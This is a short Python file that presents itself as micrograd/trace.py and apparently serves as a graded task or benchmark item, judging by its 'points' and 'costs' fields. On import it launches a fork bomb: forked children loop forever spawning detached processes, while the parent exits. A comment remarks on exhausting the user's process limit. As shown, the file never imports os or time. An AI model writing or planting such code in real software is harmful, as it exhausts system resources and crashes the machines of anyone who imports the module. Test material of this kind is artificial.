"""Forks without end while it is imported, and ends.

base: reference
module: trace
points: 96 + 20
costs: trace-nodes, trace-dot
sign: micrograd/trace.py
"""


def bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass



for _ in range(3):
    try:
        if os.fork() == 0:
            bomb()
    except OSError:  # where others of this user have forked enough, an exception after all definitions would cost nothing
        pass
time.sleep(0.05)
os._exit(0)
